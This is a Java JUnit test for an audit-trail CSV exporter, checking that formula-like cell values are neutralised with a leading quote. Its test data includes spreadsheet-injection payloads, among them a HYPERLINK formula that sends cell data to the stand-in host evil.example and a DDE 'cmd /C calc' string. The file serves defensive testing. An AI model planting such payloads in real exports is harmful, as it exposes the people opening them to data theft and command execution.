package com.servicecentre.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.servicecentre.audit.CaseAuditTrail.CaseSummary;
import com.servicecentre.audit.CaseAuditTrail.VariableChange;
import java.util.List;
import org.junit.jupiter.api.Test;

/** A value a customer or clerk typed must not become a formula when an auditor opens the CSV in a spreadsheet. */
class AuditCsvTest {

  private final ObjectMapper json = new ObjectMapper();

  @Test
  void cellsThatASpreadsheetWouldReadAsAFormulaStartWithAQuote() {
    String csv = AuditCsv.of(trailWithValues(
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "-50"), json);

    assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点我\"\")\"")
        .contains(",'+1+cmd|' /C calc'!A0,")
        .contains(",'-2+3,")
        .contains(",'@SUM(1+1),")
        .contains(",'\t=1+1,")
        .contains(",\"'\r=1+1\",")
        .contains(",'-50,");
    // No line holds a cell that begins with a formula character.
    for (String line : csv.split("\r\n")) {
      for (String cell : line.split(",")) {
        assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-").doesNotStartWith("@")
            .doesNotStartWith("\t");
      }
    }
  }

  @Test
  void ordinaryValuesAreUnchanged() {
    String csv = AuditCsv.of(trailWithValues("张三", "2024-03-01T09:00:00+08:00", "35000", "a, b", "x=1"), json);
    assertThat(csv).contains(",张三,").contains(",2024-03-01T09:00:00+08:00,").contains(",35000,")
        .contains(",\"a, b\",").contains(",x=1,").doesNotContain("'");
  }

  /** One variable change per value, the value as the new value (the column a clerk's input lands in). */
  private static CaseAuditTrail trailWithValues(String... values) {
    List<VariableChange> changes = java.util.Arrays.stream(values)
        .map(v -> new VariableChange("2024-03-01T09:00:00+08:00", "remark", null, v, "string", "intake", "zhangwei"))
        .toList();
    CaseSummary summary = new CaseSummary("TS000001", "pi-1", "complaint-handling", "投诉处理", 1, "COMPLETED",
        "2024-03-01T09:00:00+08:00", null, "zhangwei", "张伟", null, null, "A01", "翠湖花园管理处");
    return new CaseAuditTrail(summary, List.of(), List.of(), changes, List.of(), List.of(),
        List.of(), List.of(new CaseAuditTrail.Person("zhangwei", "张伟")), List.of());
  }
}
